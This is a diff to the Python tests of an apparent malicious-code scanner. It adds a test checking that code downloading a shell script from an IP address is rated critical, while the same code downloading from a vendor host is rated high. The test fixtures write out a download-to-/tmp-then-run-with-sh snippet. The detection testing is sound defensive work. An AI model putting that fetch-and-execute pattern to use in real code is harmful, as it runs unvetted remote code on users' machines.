@@ -323,7 +323,18 @@ def test_more_ways_out(source: str) -> None:
     ],
 )
 def test_downloaded_file_run(source: str) -> None:
-    assert "python.exec_decoded" in _rules(source)
+    assert "python.download_exec" in _rules(source)
+
+
+def test_a_download_from_an_ip_is_critical_from_a_vendor_host_flagged() -> None:
+    run = "\nsubprocess.run(['sh', '/tmp/i.sh'])\n"
+    get = "import urllib.request, subprocess\nurllib.request.urlretrieve('{}', '/tmp/i.sh')"
+    ip, vendor = get.format("https://198.51.100.7/i.sh"), get.format("https://sh.rustup.rs")
+    severities = {
+        name: {f.severity for f in _scan({"t.py": src + run}) if f.rule == "python.download_exec"}
+        for name, src in (("ip", ip), ("vendor", vendor))
+    }
+    assert severities == {"ip": {"critical"}, "vendor": {"high"}}
 
 
 def test_honest_downloads_and_copies() -> None:
